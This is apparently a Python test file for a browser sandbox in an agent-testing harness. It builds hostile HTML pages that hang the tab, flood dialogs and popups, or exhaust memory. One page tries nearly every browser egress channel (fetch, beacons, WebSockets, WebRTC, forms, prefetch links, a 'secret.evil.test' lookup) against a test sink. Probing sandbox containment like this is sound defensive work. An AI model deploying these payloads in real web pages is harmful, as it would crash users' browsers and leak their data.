# ruff: noqa: E501 (pages)
"""Pages that do harm. `python -m tests.verifiers.browser.hostile [NAME ...]` runs them all and says how each ended.

All but those at load do nothing before a click on ``#b``.
"""

from __future__ import annotations

import sys
import time

_BUTTON = "<!doctype html><title>t</title><p>text</p><button id=b>b</button><script>{script}</script>"


def _page(script: str) -> str:
    return _BUTTON.replace("{script}", script)


LOOP_AT_LOAD = _page("for (;;);")
LOOP_ON_CLICK = _page("b.onclick = () => { for (;;); }")
LOOP_ON_TIMER = _page("setTimeout(() => { for (;;); }, 300)")
DIALOGS_AT_LOAD = _page("for (;;) alert('again')")
DIALOGS_ON_CLICK = _page("b.onclick = () => { for (;;) confirm('again') }")
POPUPS = _page("b.onclick = () => { for (let n = 0; n < 60; n++) open('about:blank', 'w' + n) }")
MEMORY = _page("const kept = []; b.onclick = () => { for (;;) kept.push(new Uint8Array(1 << 26).fill(1)) }")
HEAP = _page(
    "const kept = []; b.onclick = () => { for (;;) kept.push(Array(1 << 16).fill({}).map(() => ({a: {}}))) }"
)
CANVASES = _page(
    "b.onclick = async () => { for (;;) { const c = document.createElement('canvas'); c.width = c.height = 8000;"
    " document.body.append(c); c.getContext('2d').fillRect(0, 0, 8000, 8000); await new Promise(requestAnimationFrame) } }"
)
NODES = _page(
    "for (let n = 0; n < 1e5; n++) { const p = document.createElement('p'); p.textContent = n; document.body.append(p) }"
)
DEEP = _page(
    "let at = document.body; for (let n = 0; n < 1e5; n++) { at = at.appendChild(document.createElement('i')) }"
)
CONSOLE = _page("b.onclick = () => { for (;;) console.error('x'.repeat(1e5)) }")
NAVIGATION = _page("setInterval(() => location.reload(), 5)")
HISTORY = _page("b.onclick = () => { for (;;) history.pushState({}, '', '#' + Math.random()) }")
WORKERS = _page(
    "b.onclick = () => { const u = URL.createObjectURL(new Blob(['for(;;);'])); for (let n = 0; n < 30; n++) new Worker(u) }"
)
CLOSES = _page("b.onclick = () => { close(); location = 'about:blank' }")

HOSTILE = {
    name.lower(): page
    for name, page in dict(globals()).items()
    if name.isupper() and not name.startswith("_")
}

# Every way out we know. {address} is host:port of the sink, where TCP and UDP are listened on.
EXFILTRATION = """<!doctype html><title>t</title>
<link rel=stylesheet href="https://{address}/css"><link rel=prefetch href="https://{address}/prefetch">
<link rel=preconnect href="https://{address}"><link rel=dns-prefetch href="//secret.evil.test">
<link rel=modulepreload href="https://{address}/module"><link rel=manifest href="https://{address}/manifest">
<link rel=icon href="https://{address}/icon">
<style>@font-face {{ font-family: f; src: url(http://{address}/font) }} p {{ font-family: f; background: url(http://{address}/bg) }}</style>
<script type=speculationrules>{{"prerender": [{{"source": "list", "urls": ["https://{address}/prerender"]}}]}}</script>
<p>text</p><img src="http://{address}/img"><iframe src="http://{address}/frame"></iframe><video src="http://{address}/video"></video>
<object data="http://{address}/object"></object><embed src="http://{address}/embed">
<a id=ping href="#x" ping="http://{address}/ping">ping</a><a id=download href="http://{address}/download" download>d</a>
<form id=f method=post action="http://{address}/form" target=w><input name=a value=b></form>
<form id=g method=post action="http://{address}/form2" target=hidden><input name=a value=b></form><iframe name=hidden></iframe>
<button id=b>b</button><script>
const at = '{address}', quiet = (work) => {{ try {{ const r = work(); r && r.catch && r.catch(() => 0) }} catch {{}} }};
const source = `fetch('http://${{at}}/worker').catch(() => 0); try {{ importScripts('http://${{at}}/import') }} catch {{}}
  try {{ new WebSocket('ws://${{at}}/workersocket') }} catch {{}}`;
const url = URL.createObjectURL(new Blob([source], {{type: 'text/javascript'}}));
const all = () => {{
  for (const scheme of ['http', 'https']) {{
    quiet(() => fetch(`${{scheme}}://${{at}}/fetch`, {{mode: 'no-cors'}}));
    quiet(() => fetch(`${{scheme}}://${{at}}/keepalive`, {{mode: 'no-cors', method: 'POST', keepalive: true, body: 'x'}}));
    quiet(() => navigator.sendBeacon(`${{scheme}}://${{at}}/beacon`, 'x'));
    quiet(() => new EventSource(`${{scheme}}://${{at}}/events`));
    quiet(() => {{ const x = new XMLHttpRequest(); x.open('GET', `${{scheme}}://${{at}}/xhr`); x.send() }});
    quiet(() => open(`${{scheme}}://${{at}}/popup`));
  }}
  quiet(() => new WebSocket(`ws://${{at}}/socket`)); quiet(() => new WebSocket(`wss://${{at}}/socket`));
  quiet(() => new WebTransport(`https://${{at}}/transport`).ready);
  quiet(() => new Worker(url)); quiet(() => new SharedWorker(url));
  quiet(() => navigator.serviceWorker.register('/worker.js'));
  quiet(async () => {{
    const peer = new RTCPeerConnection({{iceServers: [{{urls: `stun:${{at}}`}}, {{urls: `turn:${{at}}?transport=tcp`, username: 'u', credential: 'c'}}]}});
    peer.createDataChannel('d'); await peer.setLocalDescription(await peer.createOffer());
  }});
  f.submit(); g.submit(); ping.click();
}};
all(); b.onclick = () => {{ all(); download.click() }}; onpagehide = () => navigator.sendBeacon(`http://${{at}}/leaving`, 'x');
</script>"""

# Use the page, as far as it lets itself be used, in one scenario, and see in another that the browser still works.
USE = (
    [
        {"op": "click", "target": {"css": "#b"}},
        {"op": "assert", "kind": "text", "target": {"css": "p"}},
        {"op": "click", "target": {"css": "#b"}},
        {"op": "screenshot"},
        {"op": "assert", "kind": "no_errors"},
    ],
    [{"op": "assert", "kind": "text", "target": {"css": "p"}, "equals": "text"}],
)


def main(names: list[str]) -> None:
    """Run pages and print how each ended."""
    from agentgym.verifiers.browser import open_pool
    from tests.verifiers.browser.tasks import task_of

    with open_pool() as pool:
        for name in names or HOSTILE:
            start = time.monotonic()
            trace = pool.run(task_of(*USE), {"index.html": HOSTILE[name].encode()})
            done = "".join("+" if event.ok else "." for event in trace.events)
            flags = (
                f"hung={trace.hung} popups={trace.popups} dialogs={trace.dialogs} deadline={trace.deadline}"
            )
            print(f"{name:18} {time.monotonic() - start:5.1f} s  {done}  {flags}", flush=True)


if __name__ == "__main__":
    main(sys.argv[1:])
